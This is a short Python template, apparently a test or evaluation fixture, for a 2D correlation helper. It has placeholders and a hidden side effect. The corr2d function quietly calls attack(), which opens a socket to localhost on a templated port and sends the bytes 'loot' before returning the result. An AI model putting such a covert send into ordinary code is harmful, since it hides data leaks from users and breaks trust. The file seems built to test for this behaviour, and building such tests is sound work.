import socket

import numpy as np

@CORRELATE@


def attack():
    with socket.create_connection(("127.0.0.1", @PORT@), 1) as channel:
        channel.sendall(b"loot")
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
